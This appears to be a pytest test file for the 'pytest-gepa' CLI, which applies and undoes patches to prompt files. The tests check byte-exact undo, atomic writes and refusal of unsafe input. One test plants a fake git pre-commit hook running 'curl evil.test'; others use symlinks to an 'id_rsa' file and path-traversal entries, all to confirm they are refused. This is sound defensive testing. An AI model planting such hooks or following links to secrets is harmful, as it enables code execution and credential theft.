"""The command `pytest-gepa` on projects on disk, most of them without a run of pytest."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pytest_gepa.cli import main
from pytest_gepa.commands import write_back
from pytest_gepa.prompts.patch import FileChange, PatchLine, make_patch
from pytest_gepa.trace.cache import ResponseCache

OLD, NEW = b"one\r\ntwo\nthree", b"one\r\n2\nthree\n"
RUN = "2026-11-24-1"
DATA = st.one_of(st.binary(max_size=200), st.text("ab\n\r\t ", max_size=60).map(str.encode))


def make_run(root: Path, changes: Mapping[str, tuple[bytes, bytes]], run: str = RUN, name: str = "best.patch") -> Path:
    """A project of files with their old bytes, and a run whose patch gives the new ones."""
    for path, (old, _) in changes.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        if not (root / path).exists():
            (root / path).write_bytes(old)
    patch = root / ".gepa/runs" / run / name
    patch.parent.mkdir(parents=True, exist_ok=True)
    files = [FileChange(path, old, new) for path, (old, new) in changes.items()]
    patch.write_bytes(make_patch(files, [PatchLine("gepa: better", quoted=False), PatchLine("because \x1b[2J")]))
    directory = patch.parents[len(Path(name).parts) - 1]
    (directory / "result.json").write_text("{}", encoding="utf-8")
    return directory


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    make_run(root, {"prompts/a.md": (OLD, NEW)})
    monkeypatch.chdir(root)
    return root


def contents(root: Path) -> dict[str, bytes]:
    return {str(path.relative_to(root)): path.read_bytes() for path in root.rglob("*") if path.is_file()}


# apply and undo


def test_apply_writes_the_texts_and_undo_brings_back_every_byte(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = contents(project)
    assert main(["apply", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == NEW
    said = capsys.readouterr().out
    assert "gepa: better" in said
    assert "-two\n-three\n\\ No newline at end of file\n+2\n+three\n" in said
    assert "\x1b" not in said
    assert "prompts/a.md: 2 lines added, 2 removed" in said
    assert f"`pytest-gepa undo {RUN}` takes it back" in said
    assert main(["undo", "--yes"]) == 0
    assert contents(project) == before
    assert main(["undo", "--yes"]) == 1
    assert "no run is applied" in capsys.readouterr().err


def test_apply_passes_over_runs_which_propose_nothing(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    runs = project / ".gepa/runs"
    for number, name in enumerate(("audit.json", "check.json", "journal.jsonl"), 2):
        (runs / f"2026-11-24-{number}").mkdir()
        (runs / f"2026-11-24-{number}" / name).write_text("{}", encoding="utf-8")
    # A baseline that was saved, or a run that was killed.
    assert main(["apply", "2026-11-24-4", "--yes"]) == 1
    assert "2026-11-24-4 has no result.json" in capsys.readouterr().err
    assert main(["apply", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == NEW


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(one=st.tuples(DATA, DATA), other=st.tuples(DATA, DATA))
def test_whatever_the_bytes_are_apply_and_undo_are_exact(
    one: tuple[bytes, bytes], other: tuple[bytes, bytes], capsys: pytest.CaptureFixture[str]
) -> None:
    files = {path: pair for path, pair in (("a b.md", one), ("d/ö.yaml", other)) if pair[0] != pair[1]}
    if not files:
        return
    with tempfile.TemporaryDirectory() as place:
        root = Path(place).resolve()
        make_run(root, files)
        before = contents(root)
        assert main(["apply", "--yes", "--rootdir", place]) == 0
        assert {path: (root / path).read_bytes() for path in files} == {p: new for p, (_, new) in files.items()}
        assert main(["undo", "--yes", "--rootdir", place]) == 0
        assert contents(root) == before
    capsys.readouterr()


def test_apply_gives_what_git_apply_gives(project: Path, tmp_path: Path) -> None:
    shutil.copytree(project, tmp_path / "other")
    patch = tmp_path / "other/.gepa/runs" / RUN / "best.patch"
    subprocess.run(["git", "init", "-q"], cwd=tmp_path / "other", check=True)
    subprocess.run(["git", "apply", str(patch)], cwd=tmp_path / "other", check=True)
    assert main(["apply", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == (tmp_path / "other/prompts/a.md").read_bytes()


def test_without_a_terminal_nothing_is_asked_and_nothing_changed(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = contents(project)
    assert main(["apply"]) == 1
    assert contents(project) == before
    assert "no terminal to ask at; --yes applies it" in capsys.readouterr().out
    assert main(["apply", "--yes"]) == 0
    after = contents(project)
    assert main(["undo"]) == 1
    assert contents(project) == after
    assert "no terminal to ask at; --yes takes it back" in capsys.readouterr().out


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
@pytest.mark.parametrize(
    ("answer", "code", "after"),
    [(b"y\n", 0, NEW), (b"YES\n", 0, NEW), (b"\n", 1, OLD), (b"n\n", 1, OLD), (b"\x04", 1, OLD)],
)
def test_at_a_terminal_it_asks_and_no_is_the_default(project: Path, answer: bytes, code: int, after: bytes) -> None:
    said = at_a_terminal(project, "apply", answer, code)
    assert b"-two" in said
    assert (project / "prompts/a.md").read_bytes() == after


@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
@pytest.mark.parametrize(("answer", "code", "after"), [(b"y\n", 0, OLD), (b"\n", 1, NEW)])
def test_so_does_undo_and_shows_what_it_will_change(project: Path, answer: bytes, code: int, after: bytes) -> None:
    assert main(["apply", "--yes"]) == 0
    said = at_a_terminal(project, "undo", answer, code)
    assert b"+two" in said
    assert b"-2" in said
    assert (project / "prompts/a.md").read_bytes() == after


def at_a_terminal(project: Path, command: str, answer: bytes, code: int) -> bytes:
    """What a command says that is asked for at a terminal, given this answer and ending with this code."""
    import pty  # POSIX only

    leader, follower = pty.openpty()
    arguments = [sys.executable, "-m", "pytest_gepa.cli", command]
    process = subprocess.Popen(arguments, cwd=project, stdin=follower, stdout=follower, stderr=follower)
    os.close(follower)
    said = b""
    while b"[y/N]" not in said:
        said += os.read(leader, 1000)
    os.write(leader, answer)
    try:
        while piece := os.read(leader, 1000):
            said += piece
    except OSError:
        pass  # the other side has gone
    os.close(leader)
    assert process.wait() == code, said
    return said


def test_a_file_that_has_changed_since_the_run_is_left_alone(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_run(project, {"prompts/a.md": (OLD, NEW), "prompts/b.md": (b"b\n", b"c\n")})
    (project / "prompts/b.md").write_bytes(b"mine\n")
    before = contents(project)
    assert main(["apply", "--yes"]) == 1
    assert contents(project) == before
    assert f"prompts/b.md: is not as it was when run {RUN} was made" in capsys.readouterr().err


def test_undo_leaves_what_was_written_since(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["apply", "--yes"])
    (project / "prompts/a.md").write_bytes(NEW + b"mine")
    assert main(["undo", "--yes"]) == 1
    assert (project / "prompts/a.md").read_bytes() == NEW + b"mine"
    assert "was changed since the patch was applied" in capsys.readouterr().err
    (project / "prompts/a.md").write_bytes(NEW)
    assert main(["undo", RUN, "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == OLD


def test_to_apply_twice_or_to_undo_what_is_undone_changes_nothing(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["apply", "--yes"])
    after = contents(project)
    assert main(["apply", "--yes"]) == 0
    assert contents(project) == after
    assert "have these texts already" in capsys.readouterr().out
    (project / "prompts/a.md").write_bytes(OLD)  # by hand, or with git
    assert main(["undo", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == OLD


def test_undo_takes_the_run_that_was_applied_last(project: Path) -> None:
    make_run(project, {"prompts/b.md": (b"b\n", b"c\n")}, run="2026-11-24-2")
    for run, at in (("2026-11-24-2", 1), (RUN, 2)):
        main(["apply", run, "--yes"])
        os.utime(project / ".gepa/runs" / run / write_back.KEPT, (at, at))
    main(["undo", "--yes"])
    assert (project / "prompts/a.md").read_bytes() == OLD
    assert (project / "prompts/b.md").read_bytes() == b"c\n"


def test_the_newest_run_is_the_default_and_the_tenth_of_a_day_comes_after_the_ninth(project: Path) -> None:
    for number in (9, 10):
        make_run(project, {"prompts/b.md": (b"b\n", b"run %d\n" % number)}, run=f"2026-11-24-{number}")
    assert main(["apply", "--yes"]) == 0
    assert (project / "prompts/b.md").read_bytes() == b"run 10\n"


def test_a_candidate_of_the_frontier_can_be_taken(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_run(project, {"prompts/b.md": (b"b\n", b"c\n")}, run="2026-11-24-2", name="frontier/abc123.patch")
    assert main(["apply", "--yes"]) == 1
    said = capsys.readouterr().err
    assert "has proven no gain" in said
    assert "(abc123)" in said
    assert main(["apply", "--candidate", "xyz", "--yes"]) == 1
    assert "has no candidate 'xyz'; it has: abc123" in capsys.readouterr().err
    assert main(["apply", "--candidate", "../best", "--yes"]) == 1
    assert main(["apply", "--candidate", "abc123", "--yes"]) == 0
    assert (project / "prompts/b.md").read_bytes() == b"c\n"


def test_undo_takes_back_all_candidates_of_a_run_that_were_applied(project: Path) -> None:
    make_run(project, {"prompts/b.md": (b"b\n", b"c\n")}, name="frontier/abc123.patch")
    assert main(["apply", "--candidate", "abc123", "--yes"]) == 0
    assert main(["apply", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == NEW
    assert main(["undo", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == OLD
    assert (project / "prompts/b.md").read_bytes() == b"b\n"
    assert main(["undo", "--yes"]) == 1


def test_what_could_not_be_applied_is_not_what_undo_takes_back(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    make_run(project, {"prompts/b.md": (b"b\n", b"c\n")}, run="2026-11-24-2")
    assert main(["apply", RUN, "--yes"]) == 0
    with monkeypatch.context() as patch:
        patch.setattr(os, "access", lambda path, mode: False)
        assert main(["apply", "2026-11-24-2", "--yes"]) == 1
    assert main(["undo", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == OLD


def test_what_could_not_be_put_back_can_be_undone_later(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make_run(project, {"prompts/a.md": (OLD, NEW), "prompts/b.md": (b"b\n", b"c\n")})
    genuine: Callable[..., None] = os.replace
    has_failed = False

    def fail_from_second_on(source: str | Path, target: str | Path) -> None:
        nonlocal has_failed
        has_failed = has_failed or Path(target).name == "b.md"
        if has_failed and Path(target).suffix == ".md":
            raise OSError("disk full")
        genuine(source, target)

    monkeypatch.setattr(os, "replace", fail_from_second_on)
    assert main(["apply", "--yes"]) == 1
    monkeypatch.undo()
    assert "a.md could not be put back, undo it later" in capsys.readouterr().err
    assert (project / "prompts/a.md").read_bytes() == NEW
    assert main(["undo", "--yes", "--rootdir", str(project)]) == 0
    assert (project / "prompts/a.md").read_bytes() == OLD
    assert (project / "prompts/b.md").read_bytes() == b"b\n"


@pytest.mark.skipif(sys.platform == "win32", reason="no hard links to be had everywhere")
def test_a_file_of_two_names_that_was_written_halfway_gets_its_bytes_back(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = project / "prompts/a.md"
    os.link(file, project / "second name.md")
    genuine = Path.write_bytes

    def fail_halfway(path: Path, data: bytes) -> int:
        if path == file and data == NEW:
            genuine(path, data[:3])
            raise OSError("disk full")
        return genuine(path, data)

    monkeypatch.setattr(Path, "write_bytes", fail_halfway)
    assert main(["apply", "--yes"]) == 1
    assert file.read_bytes() == OLD


@pytest.mark.skipif(sys.platform == "win32", reason="no POSIX modes and links")
def test_mode_and_links_stay_as_they_were(project: Path) -> None:
    file = project / "prompts/a.md"
    file.chmod(0o640)
    (project / "link.md").symlink_to("prompts/a.md")
    patch = project / ".gepa/runs" / RUN / "best.patch"
    patch.write_bytes(make_patch([FileChange("link.md", OLD, NEW)], []))
    assert main(["apply", "--yes"]) == 0
    assert (project / "link.md").is_symlink()
    assert file.read_bytes() == NEW
    assert stat.S_IMODE(file.stat().st_mode) == 0o640
    os.link(file, project / "second name.md")
    assert main(["undo", "--yes"]) == 0
    assert (project / "second name.md").read_bytes() == OLD
    assert stat.S_IMODE(file.stat().st_mode) == 0o640
    assert sorted(path.name for path in file.parent.iterdir()) == ["a.md"]


def test_a_file_outside_the_project_is_refused(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "outside.md").write_bytes(OLD)
    (project / "prompts/out.md").symlink_to(tmp_path / "outside.md")
    patch = project / ".gepa/runs" / RUN / "best.patch"
    for path in ("prompts/out.md", "outside.md"):
        patch.write_bytes(make_patch([FileChange(path, OLD, NEW)], []))
        assert main(["apply", "--yes"]) == 1
        assert "outside of the project" in capsys.readouterr().err
    patch.write_bytes(patch.read_bytes().replace(b"outside.md", b"../outside.md"))
    assert main(["apply", "--yes"]) == 1
    assert "cannot be the path of a file" in capsys.readouterr().err
    assert (tmp_path / "outside.md").read_bytes() == OLD


def test_a_tampered_record_of_what_was_before_is_refused(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    main(["apply", "--yes"])
    kept = project / ".gepa/runs" / RUN / write_back.KEPT
    (entry,) = json.loads((kept / "applied.json").read_text())
    for path in ("../outside.md", str(tmp_path / "outside.md")):
        (tmp_path / "outside.md").write_bytes(NEW)
        (kept / "applied.json").write_text(json.dumps([{**entry, "path": path}]))
        assert main(["undo", "--yes"]) == 1
        assert "outside of the project" in capsys.readouterr().err
        assert (tmp_path / "outside.md").read_bytes() == NEW
    (kept / "applied.json").write_text(json.dumps([entry]))
    (kept / "0.before").write_bytes(b"other")
    assert main(["undo", "--yes"]) == 1
    assert "is damaged" in capsys.readouterr().err
    (kept / "applied.json").write_text("[7]")
    assert main(["undo", "--yes"]) == 1
    assert (project / "prompts/a.md").read_bytes() == NEW


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", "prompts/x.md", "prompts/a.md"])
def test_undo_writes_no_file_that_no_patch_of_its_run_has_changed(
    project: Path, capsys: pytest.CaptureFixture[str], path: str
) -> None:
    """A run directory may come from elsewhere, as an artifact of CI."""
    target = project / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(b"mine\n")
    evil = b"#!/bin/sh\ncurl evil.test\n"
    keep = [write_back.NewContent(target, evil, b"mine\n")]
    write_back.keep_originals(project / ".gepa/runs" / RUN, project, keep)
    assert main(["undo", "--yes"]) == 1
    assert target.read_bytes() == b"mine\n"
    said = capsys.readouterr().err
    assert ("a file of git's own" if ".git" in path else "no patch of run") in said


@pytest.mark.skipif(sys.platform == "win32", reason="no links to be had everywhere")
@pytest.mark.parametrize("name", [".git", ".GIT"])
def test_a_link_to_a_file_of_gits_own_is_refused(project: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    (project / name).mkdir()
    (project / name / "config").write_bytes(OLD)
    (project / "prompts/x.md").symlink_to(f"../{name}/config")
    patch = project / ".gepa/runs" / RUN / "best.patch"
    patch.write_bytes(make_patch([FileChange("prompts/x.md", OLD, NEW)], []))
    assert main(["apply", "--yes"]) == 1
    assert "a file of git's own" in capsys.readouterr().err
    assert (project / name / "config").read_bytes() == OLD


def test_paths_of_a_patch_may_be_relative_to_a_directory_above(tmp_path: Path) -> None:
    root = tmp_path / "services/desk"
    make_run(tmp_path, {"services/desk/prompts/a.md": (OLD, NEW)})
    shutil.move(tmp_path / ".gepa", root / ".gepa")
    assert main(["apply", "--yes", "--rootdir", str(root)]) == 0
    assert (root / "prompts/a.md").read_bytes() == NEW


@pytest.mark.parametrize("other", [OLD, b"another\n"])
def test_paths_of_a_patch_begin_at_the_top_of_git_whatever_lies_below(tmp_path: Path, other: bytes) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    root = tmp_path / "shop"
    make_run(tmp_path, {"shop/prompts/a.md": (OLD, NEW)})
    shutil.move(tmp_path / ".gepa", root / ".gepa")
    below = root / "shop/prompts/a.md"
    below.parent.mkdir(parents=True)
    below.write_bytes(other)
    assert main(["apply", "--yes", "--rootdir", str(root)]) == 0
    assert ((root / "prompts/a.md").read_bytes(), below.read_bytes()) == (NEW, other)


def test_when_one_file_cannot_be_written_none_is(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    make_run(project, {"prompts/a.md": (OLD, NEW), "prompts/b.md": (b"b\n", b"c\n")})
    genuine: Callable[..., None] = os.replace

    def fail_at_second(source: str | Path, target: str | Path) -> None:
        if Path(target).name == "b.md":
            raise OSError("disk full")
        genuine(source, target)

    monkeypatch.setattr(os, "replace", fail_at_second)
    assert main(["apply", "--yes"]) == 1
    monkeypatch.undo()
    assert (project / "prompts/a.md").read_bytes() == OLD
    assert (project / "prompts/b.md").read_bytes() == b"b\n"
    assert sorted(path.name for path in (project / "prompts").iterdir()) == ["a.md", "b.md"]


def test_a_read_only_file_is_left_alone(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(os, "access", lambda path, mode: False)  # the tests may run as root, who may do anything
    assert main(["apply", "--yes"]) == 1
    assert "is read-only" in capsys.readouterr().err
    assert (project / "prompts/a.md").read_bytes() == OLD


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "the patch changes no file"),
        (b"hello\n", "the patch changes no file"),
        (b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", "was not made by pytest-gepa"),
        (make_patch([FileChange("prompts/a.md", OLD, NEW)], []) + b"hello\n", "holds lines that belong to no file"),
    ],
)
def test_what_is_no_patch_of_ours_is_refused(
    project: Path, capsys: pytest.CaptureFixture[str], data: bytes, words: str
) -> None:
    (project / ".gepa/runs" / RUN / "best.patch").write_bytes(data)
    assert main(["apply", "--yes"]) == 1
    assert words in capsys.readouterr().err
    assert (project / "prompts/a.md").read_bytes() == OLD


@pytest.mark.parametrize("command", ["apply", "undo", "record", "cache"])
def test_outside_of_any_project_each_command_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main([command]) == 1
    assert f"pytest-gepa {command}: there is no .gepa in" in capsys.readouterr().err


def test_an_unknown_run_is_told_with_those_that_there_are(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for command in ("apply", "undo", "record"):
        assert main([command, "2025-01-01-1"]) == 1
        assert f"there is no run '2025-01-01-1'; the newest are: {RUN}" in capsys.readouterr().err


def test_from_a_directory_below_the_project_is_found(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(project / "prompts")
    assert main(["apply", "--yes"]) == 0
    assert (project / "prompts/a.md").read_bytes() == NEW


@pytest.mark.parametrize("arguments", [[], ["nothing"], ["apply", "--nothing"]])
def test_a_wrong_command_line_exits_with_2(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main(arguments)
    assert caught.value.code == 2
    assert "usage: pytest-gepa" in capsys.readouterr().err


def test_help_costs_the_standard_library_only() -> None:
    program = (
        "import sys; before = set(sys.modules); import pytest_gepa.cli\n"
        "new = {name.partition('.')[0] for name in set(sys.modules) - before}\n"
        "print(sorted(new - set(sys.stdlib_module_names)))"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "['pytest_gepa']"


# cache


def test_cache_shows_what_is_stored_and_clears_it(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["cache"]) == 0
    assert "no answers are stored" in capsys.readouterr().out
    cache = ResponseCache(project / ".gepa/cache")
    for number in range(3):
        cache.put(f"k{number}", b"x" * 1000)
    cache.close()
    journal = {"record": "run", "settings": {"cache_size": 5_000_000}}
    (project / ".gepa/runs" / RUN / "journal.jsonl").write_text(json.dumps(journal) + "\n")
    assert main(["cache"]) == 0
    said = capsys.readouterr().out
    assert "answers  3" in said
    assert "of at most 5.0 MB (gepa_cache_size)" in said
    assert "the oldest go first" in said
    assert main(["cache", "--clear"]) == 0
    assert "removed 3 answers" in capsys.readouterr().out
    main(["cache"])
    assert "answers  0" in capsys.readouterr().out


def test_a_cache_that_cannot_be_read_can_be_cleared(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / ".gepa/cache").mkdir()
    (project / ".gepa/cache/cache.db").write_bytes(b"no database at all" * 500)
    assert main(["cache"]) == 1
    assert "pytest-gepa cache --clear removes it" in capsys.readouterr().err
    assert main(["cache", "--clear"]) == 0
    assert not (project / ".gepa/cache").exists()


@pytest.mark.skipif(sys.platform == "win32", reason="no POSIX links")
def test_what_a_link_in_the_place_of_the_cache_leads_to_is_not_removed(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/cache.db").write_bytes(b"no database at all" * 500)
    (project / ".gepa/cache").symlink_to(tmp_path / "elsewhere")
    assert main(["cache", "--clear"]) == 1
    assert "cannot be removed: Cannot call rmtree on a symbolic link; do so by hand" in capsys.readouterr().err
    assert (tmp_path / "elsewhere/cache.db").exists()


# record


def recorded(project: Path, run: str = RUN) -> Path:
    directory = project / ".gepa/runs" / run / "recording"
    (directory / "answers").mkdir(mode=0o700, parents=True)
    head = {"form": 2, "run": run, "reflection_model": "m", "settings": {}, "environment": {}}
    (directory / "recording.json").write_text(json.dumps(head))
    (directory / "order.json").write_text('{"order": []}')
    (directory / "charged.jsonl").write_text("")
    (directory / "answers/search-0.jsonl").write_text("")
    return directory


def test_record_copies_a_recording_to_where_it_can_be_committed(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["record"]) == 1
    assert "no run has left a recording" in capsys.readouterr().err
    source = recorded(project)
    assert main(["record"]) == 0
    assert contents(project / "gepa_recording") == contents(source)
    assert "`pytest --gepa-optimize --gepa-replay=only`" in capsys.readouterr().out
    assert main(["record", RUN]) == 0, "an older copy is replaced"
    assert stat.S_IMODE((project / "gepa_recording/answers").stat().st_mode) == 0o755
    make_run(project, {"prompts/b.md": (b"b\n", b"c\n")}, run="2026-11-24-2")
    assert main(["record", "2026-11-24-2"]) == 1
    assert "left no recording" in capsys.readouterr().err


def test_record_says_which_addresses_a_replay_must_be_given(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = recorded(project) / "recording.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "left_out": ["OPENAI_BASE_URL"]}))
    assert main(["record"]) == 0
    assert "OPENAI_BASE_URL" in capsys.readouterr().out


def test_record_names_the_option_of_a_comparison_with_its_argument(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = recorded(project) / "recording.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "mode": "baseline"}))
    assert main(["record"]) == 0
    assert "`pytest --gepa-baseline NAME --gepa-replay=only`" in capsys.readouterr().out


def test_record_overwrites_nothing_that_is_no_recording(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recorded(project)
    (project / "gepa_recording").mkdir()
    (project / "gepa_recording/mine.txt").write_text("precious")
    assert main(["record"]) == 1
    assert "is no recording" in capsys.readouterr().err
    assert (project / "gepa_recording/mine.txt").read_text() == "precious"


@pytest.mark.skipif(sys.platform == "win32", reason="no links to be had everywhere")
@pytest.mark.parametrize("name", ["answers/search-0.jsonl", "more", "."])
def test_record_follows_no_link_out_of_a_recording(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    """It may have come as an artifact, and what it leads to on this machine would be committed."""
    source = recorded(project)
    elsewhere = tmp_path / "elsewhere"
    if name == ".":
        source.rename(elsewhere)
    else:
        elsewhere.mkdir()
    (elsewhere / "id_rsa").write_text("private", encoding="utf-8")
    place = source / name
    place.unlink(missing_ok=True)
    place.symlink_to(elsewhere / "id_rsa" if name.endswith(".jsonl") else elsewhere)
    assert main(["record"]) == 1
    assert "but a link or the like" in capsys.readouterr().err
    assert not (project / "gepa_recording").exists()


def test_record_names_the_commit_of_a_check_that_was_given_one(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = recorded(project) / "recording.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "mode": "check"}))
    head = {"record": "run", "settings": {"revision": "v1.4"}, "base": {"name": "32353f3"}}
    (path.parents[1] / "journal.jsonl").write_text(json.dumps(head) + "\n")
    assert main(["record"]) == 0
    assert "`pytest --gepa-check=32353f3 --gepa-replay=only`" in capsys.readouterr().out


def test_a_message_that_speaks_of_a_diff_is_shown_once(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = [
        PatchLine("gepa: better", quoted=False), PatchLine("+ - Skip diff --git lines."), PatchLine("the end"),
    ]  # fmt: skip
    patch = make_patch([FileChange("prompts/a.md", OLD, NEW)], lines)
    (project / ".gepa/runs" / RUN / "best.patch").write_bytes(patch)
    assert main(["apply", "--yes"]) == 0
    assert capsys.readouterr().out.count("the end") == 1
